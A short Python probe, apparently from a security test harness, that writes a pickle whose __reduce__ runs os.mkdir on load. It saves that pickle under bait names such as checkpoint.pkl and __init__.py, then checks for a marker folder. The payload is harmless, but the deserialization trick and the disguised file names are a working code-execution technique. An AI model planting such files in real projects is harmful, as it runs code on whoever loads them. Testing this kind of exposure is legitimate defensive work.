"""Leaves pickles that run code when they are loaded, under names that invite to it."""

import os
import pickle

from attack import GIVEN, note, outside, saw


class Bomb:
    def __reduce__(self):
        return os.mkdir, (os.path.join(GIVEN["folder"], "loaded"),)


bytes_of_it = pickle.dumps(Bomb())
for name in ("checkpoint.pkl", "manifest", "session.dill", "__init__.py"):
    with open(name, "wb") as file:
        file.write(bytes_of_it)
if outside():
    pickle.loads(bytes_of_it)
    note("loaded", "yes" if os.path.isdir(os.path.join(GIVEN["folder"], "loaded")) else "no")
    os.rmdir(os.path.join(GIVEN["folder"], "loaded"))
else:
    note("laid", "pickles")
saw()
